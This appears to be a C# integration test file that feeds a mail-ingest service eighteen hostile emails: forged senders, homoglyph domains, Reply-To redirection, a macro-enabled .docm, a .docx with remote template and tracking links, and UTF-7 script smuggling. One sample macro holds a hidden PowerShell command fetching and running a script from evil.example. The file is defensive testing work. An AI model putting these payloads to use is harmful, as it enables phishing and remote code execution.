using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MimeKit;
using Regin.Core.Persistence;
using Regin.Core.Persistence.Entities;
using Regin.Core.Questionnaire;
using Regin.Core.Templates;
using Regin.MailIngest.Tests.Security;
using Regin.Testing;

using Attack = Regin.MailIngest.Tests.Integration.AttackRound.Attack;
using Context = Regin.MailIngest.Tests.Integration.AttackRound.Context;

namespace Regin.MailIngest.Tests.Integration;

/// <summary>
/// Attacker round 43: hostile mails written the way attackers write them (a reply quoting another contributor's practice
/// reference to overwrite it, a Reply-To to redirect our answer, encoded words in unknown charsets or 20,000 characters
/// long, a .docx with a remote template, external links and an embedded OLE object, a .docm, a Word file renamed .pdf, mail
/// nested ten deep, 10,000 tiny parts, ISO-2022-JP and UTF-7 bodies, homoglyphs of a contributor's and of our domain, a
/// forged From in our thread, a Message-ID of the victim's), delivered to a real Dovecot beside Alice's draft and read by
/// the watcher, on SQLite and on PostgreSQL. Each gets the outcome written beside it, is kept raw, changes nothing of
/// Alice's, and gets one well-formed reply in its sender's language at the From address alone, or none.
/// </summary>
public sealed class AttackerRound43Tests(MailServers servers) : IClassFixture<MailServers>
{
    private static readonly QuestionnaireDefinition Questionnaire = QuestionnaireLoader.LoadEmbedded();

    static AttackerRound43Tests() => Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);

    /// <summary>One attack: its mail, the outcome its row's detail opens with, the language of its one reply (null: no reply).</summary>
    private static MimeMessage Mail(Context context, string name, string from, string subject, MimeEntity body, bool authenticated = true)
    {
        var message = new MimeMessage();
        message.From.Add(MailboxAddress.Parse(from));
        message.To.Add(MailboxAddress.Parse("reginproject@crpm.org"));
        message.Subject = subject;
        message.MessageId = $"{context.User}.{name}@mx.attacker.example";
        message.Headers.Add("X-Attack", name);
        message.Body = body;
        return authenticated ? MailTestHost.Authenticated(message) : message;
    }

    private static TextPart Text(string text) => new("plain") { Text = text, ContentTransferEncoding = ContentEncoding.QuotedPrintable };

    private static MimePart File(byte[] bytes, string name, string mediaType, string subtype) => new(mediaType, subtype)
    {
        FileName = name,
        Content = new MimeContent(new MemoryStream(bytes)),
        ContentTransferEncoding = ContentEncoding.Base64,
    };

    /// <summary>The English Word template with these controls filled, and <paramref name="edit"/> applied to the package.</summary>
    internal static byte[] Word(Dictionary<string, string> answers, Action<WordprocessingDocument>? edit = null)
    {
        using var stream = new MemoryStream();
        stream.Write(new DocxTemplate(Questionnaire).Generate("en", "reginproject@crpm.org"));
        using (var document = WordprocessingDocument.Open(stream, true))
        {
            foreach (var control in document.MainDocumentPart!.Document!.Body!.Descendants<SdtBlock>())
            {
                if (answers.TryGetValue(control.SdtProperties!.GetFirstChild<Tag>()!.Val!.Value!, out var answer))
                {
                    control.SdtProperties.GetFirstChild<ShowingPlaceholder>()?.Remove();
                    control.SdtContentBlock!.RemoveAllChildren();
                    control.SdtContentBlock.Append(new Paragraph(new Run(new Text(answer))));
                }
            }
            edit?.Invoke(document);
            document.MainDocumentPart.Document.Save();
        }
        return stream.ToArray();
    }

    /// <summary>A .docx made a .docm: the macro project added and the main part's content type made macro-enabled.</summary>
    internal static byte[] Docm(byte[] docx) => Rewritten(docx, "[Content_Types].xml",
        xml => xml.Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal)
            .Replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>", StringComparison.Ordinal),
        zip =>
        {
            using var vba = zip.CreateEntry("word/vbaProject.bin").Open();
            // An OLE compound file's signature, then an AutoOpen macro's source as an attacker leaves it in the stream.
            vba.Write([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
            vba.Write(Encoding.ASCII.GetBytes("Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n Shell \"powershell -w hidden -c iwr http://evil.example/p.ps1|iex\"\r\nEnd Sub\r\n"));
        });

    /// <summary>A package with one XML entry's text rewritten by <paramref name="rewrite"/>, and <paramref name="add"/> applied to the archive.</summary>
    internal static byte[] Rewritten(byte[] package, string entryName, Func<string, string> rewrite, Action<ZipArchive>? add = null)
    {
        using var stream = new MemoryStream();
        stream.Write(package);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            var entry = zip.GetEntry(entryName)!;
            string xml;
            using (var reader = new StreamReader(entry.Open()))
            {
                xml = reader.ReadToEnd();
            }
            entry.Delete();
            using (var writer = new StreamWriter(zip.CreateEntry(entryName).Open()))
            {
                writer.Write(rewrite(xml));
            }
            add?.Invoke(zip);
        }
        return stream.ToArray();
    }

    private static MimeMessage Nested(MimeMessage inner, int depth)
    {
        var message = inner;
        for (var i = 0; i < depth; i++)
        {
            var outer = new MimeMessage();
            outer.From.Add(MailboxAddress.Parse("fwd@relay.example"));
            outer.To.Add(MailboxAddress.Parse("reginproject@crpm.org"));
            outer.Subject = "Fwd: " + message.Subject;
            outer.Body = new Multipart("mixed") { Text("Weitergeleitet."), new MessagePart { Message = message } };
            message = outer;
        }
        return message;
    }

    private const string Victim = "alice@example.org";

    private static readonly Attack[] Attacks =
    [
        // A stranger answering our reply to Alice (its ids copied from a forward she made), quoting her reference and
        // retyping her title with his own: her practice must not change.
        new("a43-01-reply-quoting-anothers-reference", c =>
        {
            var m = Mail(c, "a43-01", "Mallory Grey <mallory@evil-ngo.example>", "Re: REGIN: your practice REGIN-0001",
                Text("Please update as below, thanks.\n\n[Q05] Alice's practice (discontinued, see www.evil-ngo.example)\n[Q06] Cyprus\n\nOn Thu, 3 Dec 2026 at 10:12, REGIN <reginproject@crpm.org> wrote:\n> Thank you for your contribution to the REGIN Integration Lab.\n> REGIN: your practice REGIN-0001\n> [Q05] Title of the practice: Alice's practice\n"));
            m.InReplyTo = c.OurReplyToAlice;
            m.References.Add(c.OurReplyToAlice);
            return m;
        }, "unverified_update", "en"),
        // Reply-To elsewhere, to redirect our answer (and the reference it carries) to the attacker's mailbox.
        new("a43-02-reply-to-redirects-our-answer", c =>
        {
            var m = Mail(c, "a43-02", "Kate Walsh <kate@corkcity.example>", "REGIN practice", Text("Hi,\n[Q01] Kate Walsh\n[Q05] Welcome desk for newcomers\n[Q06] Ireland\n\nKate"));
            m.ReplyTo.Add(MailboxAddress.Parse("Kate Walsh <kate.walsh@corkcity-secure.example>"));
            return m;
        }, "created", "en"),
        // An encoded word in a charset nobody knows carrying a reference, from an authenticated stranger: his own draft.
        new("a43-03-encoded-word-in-an-unknown-charset", c =>
        {
            var m = Mail(c, "a43-03", "Paul Girard <paul.girard@lyon.example>", "x", Text("Bonjour,\n[Q01] Paul Girard\n[Q05] Accueil des familles\n[Q06] France\n\nCordialement,\nPaul"));
            m.Headers[HeaderId.Subject] = "=?x-klingon-1?B?UkVHSU4tMDAwMQ==?= =?utf-8?Q?Fiche_pratique_=C3=A0_jour?=";
            return m;
        }, "created", "fr"),
        // A subject of 600 encoded words (20,000 characters decoded): our reply's subject is ours, one line.
        new("a43-04-overlong-encoded-subject", c =>
        {
            var m = Mail(c, "a43-04", "Lucía Pérez <lucia@murcia.example>", "x", Text("Hola:\n[Q01] Lucía Pérez\n[Q05] Acogida de recién llegados\n[Q06] España\n\nUn saludo,\nLucía"));
            var word = "=?utf-8?B?" + Convert.ToBase64String(Encoding.UTF8.GetBytes("Práctica REGIN-0001 Bcc: all@crpm.org ")) + "?=";
            m.Headers[HeaderId.Subject] = string.Join("\r\n ", Enumerable.Repeat(word, 600));
            return m;
        }, "created", "es"),
        // A reference in an ISO-2022-JP subject, unauthenticated: named only, nothing changes, nobody is answered.
        new("a43-05-iso-2022-jp-subject-names-a-practice", c =>
        {
            var m = Mail(c, "a43-05", "Tanaka <tanaka@mail.example.jp>", "x", Text("[Q05] 多文化共生センター\n[Q06] Malta\n"), authenticated: false);
            m.Headers.Replace(HeaderId.Subject, Encoding.GetEncoding("iso-2022-jp"), "REGIN-0001 の修正");
            return m;
        }, "unverified_update", null),
        // A .docx with a remote template, an external hyperlink and a linked picture (Follina's and the tracking pixel's way):
        // its controls are read, no address in it is ever opened.
        new("a43-06-docx-with-a-remote-template-and-external-links", c => Mail(c, "a43-06", "Mark Byrne <mark.byrne@galway.example>", "REGIN template",
            new Multipart("mixed")
            {
                Text("Hi, template attached.\nMark"),
                File(Word(new() { ["contact_name"] = "Mark Byrne", ["title"] = "Language cafe in Galway", ["country"] = "Ireland" }, d =>
                {
                    var settings = d.MainDocumentPart!.DocumentSettingsPart ?? d.MainDocumentPart.AddNewPart<DocumentSettingsPart>();
                    settings.Settings ??= new Settings();
                    var template = settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("http://evil.example/t.dotm"));
                    settings.Settings!.Append(new AttachedTemplate { Id = template.Id });
                    var link = d.MainDocumentPart.AddHyperlinkRelationship(new Uri("http://evil.example/login"), true);
                    d.MainDocumentPart.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("http://evil.example/pixel.png?u=mark"));
                    d.MainDocumentPart.Document!.Body!.InsertAt(new Paragraph(new Hyperlink(new Run(new Text("Verify your REGIN account"))) { Id = link.Id }), 0);
                }), "REGIN template.docx", "application", "vnd.openxmlformats-officedocument.wordprocessingml.document"),
            }), "created", "en"),
        // An embedded OLE object (a package holding an executable) in the .docx: never opened, the controls read.
        new("a43-07-docx-with-an-embedded-ole-object", c => Mail(c, "a43-07", "Sinead Kelly <sinead.kelly@limerick.example>", "REGIN template",
            new Multipart("mixed")
            {
                Text("Hello, please find the template attached.\nSinead"),
                File(Word(new() { ["contact_name"] = "Sinead Kelly", ["title"] = "Homework club for newcomers", ["country"] = "Ireland" }, d =>
                {
                    var ole = d.MainDocumentPart!.AddEmbeddedObjectPart("application/vnd.openxmlformats-officedocument.oleObject");
                    using var s = new MemoryStream([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. Encoding.ASCII.GetBytes("MZ\u0090\0 this program cannot be run in DOS mode invoice.exe")]);
                    ole.FeedData(s);
                }), "REGIN template.docx", "application", "vnd.openxmlformats-officedocument.wordprocessingml.document"),
            }), "created", "en"),
        // A .docm with an AutoOpen macro: never opened, the sender told in Spanish why and what to send.
        new("a43-08-docm-with-an-autoopen-macro", c => Mail(c, "a43-08", "Javier Ruiz <javier.ruiz@sevilla.example>", "Ficha REGIN",
            new Multipart("mixed")
            {
                Text("Buenos días, adjunto la ficha rellenada.\nUn saludo,\nJavier"),
                File(Docm(Word(new() { ["contact_name"] = "Javier Ruiz", ["title"] = "Acogida en Sevilla", ["country"] = "España" })), "Ficha REGIN.docm", "application", "vnd.ms-word.document.macroEnabled.12"),
            }), "failed", "es", Detail: "docx_macro"),
        // A Word file renamed .pdf (and labelled so) to pass a filter that lets PDFs through: not read, named in Italian.
        new("a43-09-word-file-renamed-pdf", c => Mail(c, "a43-09", "Marco Bianchi <marco.bianchi@bologna.example>", "Scheda REGIN",
            new Multipart("mixed")
            {
                Text("Buongiorno, in allegato la scheda compilata.\nCordiali saluti\nMarco"),
                File(Word(new() { ["contact_name"] = "Marco Bianchi", ["title"] = "Sportello stranieri", ["country"] = "Italia" }), "scheda.pdf", "application", "pdf"),
            }), "failed", "it", Detail: "attachment_not_read:scheda.pdf"),
        // The template at the bottom of mails attached ten deep: not looked into, the sender told in German.
        new("a43-10-message-nested-ten-deep", c =>
        {
            var inner = new MimeMessage();
            inner.From.Add(MailboxAddress.Parse("j.weber@bremen.example"));
            inner.Subject = "Vorlage";
            inner.Body = Text("[Q01] Jürgen Weber\n[Q05] Willkommenslotsen\n[Q06] Deutschland\n");
            var nested = Nested(inner, 10);
            return Mail(c, "a43-10", "Jürgen Weber <j.weber@bremen.example>", "REGIN Vorlage", new Multipart("mixed") { Text("Hallo, anbei die Vorlage als weitergeleitete Nachricht.\nGrüße\nJürgen"), new MessagePart { Message = nested } });
        }, "failed", "de", Detail: "nested_too_deep"),
        // 10,000 tiny parts after the template: the first read, the rest named, answered in Swedish.
        new("a43-11-ten-thousand-tiny-parts", c =>
        {
            var mixed = new Multipart("mixed") { Text("Hej!\n[Q01] Anna Lind\n[Q05] Välkomstlots för nyanlända\n[Q06] Sverige\n\nMed vänlig hälsning\nAnna") };
            for (var i = 0; i < 10_000; i++)
            {
                mixed.Add(new TextPart("plain") { Text = "x" });
            }
            return Mail(c, "a43-11", "Anna Lind <anna.lind@stockholm.example>", "REGIN mall", mixed);
        }, "created", "sv", Detail: "too_many_parts"),
        // An ISO-2022-JP body (escape sequences switch the character set mid-line): decoded, the title stored as typed.
        new("a43-12-iso-2022-jp-body", c =>
        {
            var part = new TextPart("plain");
            part.SetText(Encoding.GetEncoding("iso-2022-jp"), "Hi, here it is.\n[Q01] Yuki Sato\n[Q05] 多文化共生センター (multicultural centre)\n[Q06] Ireland\n\nBest regards,\nYuki");
            part.ContentTransferEncoding = ContentEncoding.SevenBit;
            return Mail(c, "a43-12", "Yuki Sato <yuki.sato@dublin.example>", "REGIN template", part);
        }, "created", "en"),
        // A UTF-7 body smuggling markup ("+ADw-script+AD4-"): decoded as text, stored as text, the reply plain text.
        new("a43-13-utf-7-body-smuggling-markup", c =>
        {
            var part = new TextPart("plain") { Content = new MimeContent(new MemoryStream(Encoding.ASCII.GetBytes("Hi, here is the template for our practice.\r\n[Q01] Tom Ryan\r\n[Q05] Welcome +ADw-script+AD4-alert(1)+ADw-/script+AD4- desk\r\n[Q06] Ireland\r\n\r\nTom\r\n"))), ContentTransferEncoding = ContentEncoding.SevenBit };
            part.ContentType.Charset = "utf-7";
            return Mail(c, "a43-13", "Tom Ryan <tom.ryan@waterford.example>", "REGIN template", part);
        }, "created", "en"),
        // Alice's domain with a Cyrillic "а", authenticated for itself, naming her practice: his own draft, flagged, the reply quoting nothing.
        new("a43-14-homoglyph-of-a-contributors-domain", c => Mail(c, "a43-14", "Alice Example <alice@exаmple.org>", "REGIN-0001 update",
            Text("Hi, small update.\n[Q05] Alice's practice (moved to www.evil.example)\n[Q06] Malta\n\nAlice")), "created", "en", ReplyOmits: ["evil.example", "moved to"]),
        // "REGIN Support" from a look-alike of our domain with a Reply-To elsewhere: its own draft, the reply to From, quoting nothing.
        new("a43-15-lookalike-of-our-domain-with-reply-to", c =>
        {
            var m = Mail(c, "a43-15", "REGIN Support <support@crpm-org.example>", "Verify your REGIN account", Text("Hello,\n[Q05] Verify your account at http://crpm-org.example/login\n[Q06] Malta\n"));
            m.ReplyTo.Add(MailboxAddress.Parse("verify@crpm-org.example"));
            return m;
        }, "created", "en", ReplyOmits: ["crpm-org.example/login", "Verify your account"]),
        // Alice's address forged (our server saw DMARC fail) in our thread, a Reply-To to the attacker: nothing changes, no reply.
        new("a43-16-forged-contributor-in-our-thread", c =>
        {
            var m = Mail(c, "a43-16", "Alice Example <alice@example.org>", "Re: REGIN: your practice REGIN-0001", Text("[Q05] Alice's practice (closed)\n"), authenticated: false);
            m.Headers.Insert(0, new MimeKit.Header("Authentication-Results", $"{MailTestHost.AuthServId}; spf=fail smtp.mailfrom=evil.example; dkim=none; dmarc=fail header.from=example.org"));
            m.InReplyTo = c.OurReplyToAlice;
            m.References.Add(c.OurReplyToAlice);
            m.ReplyTo.Add(MailboxAddress.Parse("alice.example@evil.example"));
            return m;
        }, "unverified_update", null),
        // Alice's own Message-ID on a stranger's mail: since session 44 kept raw under a key of its own (the id and its author
        // print) and read as his own mail, flagged message_id_reused, answered at his address; Alice's draft untouched.
        new("a43-17-message-id-of-the-victims-mail", c =>
        {
            var m = Mail(c, "a43-17", "Mallory Grey <mallory@evil-ngo.example>", "REGIN", Text("[Q05] Alice's practice (closed)\n[Q06] Cyprus\n"));
            m.MessageId = c.AliceMessageId;
            return m;
        }, "created", "en", Detail: "message_id_reused"),
        // Overlong UTF-8 ("/.." as C0 AF C0 AE C0 AE) and a lone surrogate's bytes in encoded words of the name and subject.
        new("a43-18-overlong-utf-8-in-encoded-words", c =>
        {
            var m = Mail(c, "a43-18", "Eva Novak <eva.novak@graz.example>", "x", Text("Hallo, anbei unsere Vorlage.\n[Q01] Eva Novak\n[Q05] Sprachcafé Graz\n[Q06] Österreich\n\nLiebe Grüße\nEva"));
            m.Headers[HeaderId.Subject] = "=?utf-8?B?wK/ArsCu7aCA?= REGIN";
            m.Headers[HeaderId.From] = "=?utf-8?B?RXZhIMCvwK4gTm92YWs=?= <eva.novak@graz.example>";
            return m;
        }, "created", "de"),
    ];

    [Theory]
    [InlineData(TestProviders.Sqlite)]
    [InlineData(TestProviders.PostgreSql)]
    public async Task Attackers_mail_of_round_43_through_Dovecot_is_kept_answered_in_its_language_and_changes_nothing_of_alices(string provider)
    {
        var result = await AttackRound.RunAsync(servers, provider, "43", Attacks, new HashSet<string>(StringComparer.Ordinal) { "processed", "failed" });

        Assert.True(result.Failures.Count == 0, result.Report);
    }
}
